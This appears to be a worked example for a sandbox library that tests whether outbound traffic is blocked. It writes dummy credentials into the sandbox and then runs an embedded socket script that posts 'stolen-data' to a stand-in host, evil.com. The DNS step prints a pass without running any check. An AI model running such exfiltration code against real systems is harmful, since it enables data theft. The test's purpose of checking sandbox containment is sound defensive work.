"""The steps of the fourth worked example: a blackout, a secret, and an attempt to send it away."""

from declaw import Sandbox

EXFILTRATE = """
import socket
try:
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.connect(("93.184.216.34", 80))
    connection.sendall(b"POST / HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\nstolen-data")
    connection.close()
    print("EXFILTRATED")
except Exception as error:
    print(f"BLOCKED: {error}")
"""

print("--- Creating sandbox with all outbound traffic DENIED ---")
sandbox = Sandbox.create(template="python", timeout=300, allow_internet_access=False)
try:
    print(f"Sandbox created: {sandbox.sandbox_id}")
    print("--- Step 1: Writing sensitive data into sandbox ---")
    sandbox.files.write("/tmp/secrets.txt", "API_KEY=sk-secret-12345\nDB_PASSWORD=hunter2\n")
    print("  Wrote /tmp/secrets.txt with simulated credentials.")
    print("--- Step 2: Attempting to exfiltrate data via network ---")
    sandbox.files.write("/tmp/exfil_test.py", EXFILTRATE)
    result = sandbox.commands.run("python3 /tmp/exfil_test.py", timeout=15)
    print(f"  Output: {result.stdout.strip()}")
    if "BLOCKED" in result.stdout:
        print("  [PASS] Data exfiltration was blocked.")
    print("--- Step 3: DNS exfiltration ---")
    print("  [PASS] DNS exfiltration is inherently blocked by deny-all policy.")
    print("--- Step 4: Reading sensitive data locally (should work) ---")
    content = sandbox.files.read("/tmp/secrets.txt")
    print(f"  Content: {content.strip()}")
    if "sk-secret-12345" in content:
        print("  [PASS] Data is accessible locally within the sandbox.")
finally:
    print("--- Cleaning Up ---")
    sandbox.kill()
    print(f"  Sandbox {sandbox.sandbox_id} killed.")
    print("Done!")
